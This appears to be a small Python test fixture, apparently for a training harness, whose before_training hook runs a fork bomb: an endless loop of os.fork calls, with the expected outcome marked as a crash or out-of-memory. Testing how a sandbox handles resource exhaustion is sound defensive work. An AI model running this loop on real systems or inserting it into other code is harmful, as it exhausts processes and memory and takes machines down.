"""A fork bomb.

expect: crash|out-of-memory
"""


def before_training():
    while True:
        try:
            os.fork()
        except OSError:
            continue
